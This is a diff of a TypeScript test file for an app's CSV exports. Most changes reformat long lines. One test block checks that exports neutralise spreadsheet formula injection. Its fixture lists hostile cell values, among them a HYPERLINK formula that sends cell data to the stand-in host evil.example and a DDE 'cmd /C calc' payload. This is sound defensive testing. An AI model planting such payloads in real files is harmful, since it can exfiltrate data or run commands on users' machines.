@@ -8,7 +8,12 @@ import { fakeReplication } from '../fixtures/results.ts';
 import { fixtureScenario } from '../fixtures/scenario.ts';
 
 const opts = { days: 56, warmupDays: 14, reps: 5, seed: 3 };
-const batchAt = (level: number) => summariseBatch(fixtureScenario(), opts, Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, level)));
+const batchAt = (level: number) =>
+  summariseBatch(
+    fixtureScenario(),
+    opts,
+    Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, level)),
+  );
 const parse = (text: string) => {
   expect(text.startsWith('\uFEFF')).toBe(true);
   return csvParse(text.slice(1));
@@ -41,23 +46,36 @@ describe('CSV exports', () => {
     expect(rows.every((r) => r.difference.mean > 0 && r.difference.excludesZero)).toBe(true);
     const same = comparisonRows(batchAt(1), batchAt(1));
     expect(same.every((r) => r.difference.mean === 0 && !r.difference.excludesZero)).toBe(true);
-    const csv = parse(comparisonCsv([{ label: 'Base', batch: batchAt(1) }, { label: 'More', batch: batchAt(1.5) }]));
+    const csv = parse(
+      comparisonCsv([
+        { label: 'Base', batch: batchAt(1) },
+        { label: 'More', batch: batchAt(1.5) },
+      ]),
+    );
     expect(csv).toHaveLength(METRIC_NAMES.length);
     expect(csv[0]).toMatchObject({ baseline: 'Base', scenario: 'More', ci_excludes_zero: 'yes' });
   });
 
   it('refuses to compare runs made on different seeds', () => {
-    const other = summariseBatch(fixtureScenario(), { ...opts, seed: 4 }, Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 4)));
+    const other = summariseBatch(
+      fixtureScenario(),
+      { ...opts, seed: 4 },
+      Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 4)),
+    );
     expect(() => comparisonRows(batchAt(1), other)).toThrow(/same seeds/);
   });
 
   describe('formula injection (OWASP): a name a spreadsheet would run reaches it as text', () => {
-    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
     const hostile = () => {
       const s = fixtureScenario();
       s.dutyTeams[0]!.name = '@SUM(1+1)';
       s.name = evil[0]!;
-      return summariseBatch(s, opts, Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, 1)));
+      return summariseBatch(
+        s,
+        opts,
+        Array.from({ length: 5 }, (_, rep) => fakeReplication(rep, 3, 1)),
+      );
     };
     const everyCell = (text: string) => parse(text).flatMap((r) => Object.values(r));
     const formulaLike = (cell: string | undefined) => /^[=+\-@\t\r]/.test(cell ?? '') && !/^-?\d/.test(cell ?? '');
@@ -65,8 +83,15 @@ describe('CSV exports', () => {
     it('every app download (summary, replications, weekly, teams, comparison) neutralises the scenario and team names', () => {
       const b = hostile();
       const label = b.scenario.name;
-      const files = [summaryCsv, replicationsCsv, (x: Parameters<typeof summaryCsv>[0]) => seriesCsv(x, ['reReferralRate']), teamsCsv].map((f) => f([{ label, batch: b }]));
-      files.push(comparisonCsv([{ label: '=1+1', batch: b }, { label: '@cmd', batch: b }]));
+      const files = [summaryCsv, replicationsCsv, (x: Parameters<typeof summaryCsv>[0]) => seriesCsv(x, ['reReferralRate']), teamsCsv].map((f) =>
+        f([{ label, batch: b }]),
+      );
+      files.push(
+        comparisonCsv([
+          { label: '=1+1', batch: b },
+          { label: '@cmd', batch: b },
+        ]),
+      );
       for (const text of files) {
         const cells = everyCell(text);
         expect(cells.filter(formulaLike)).toEqual([]);
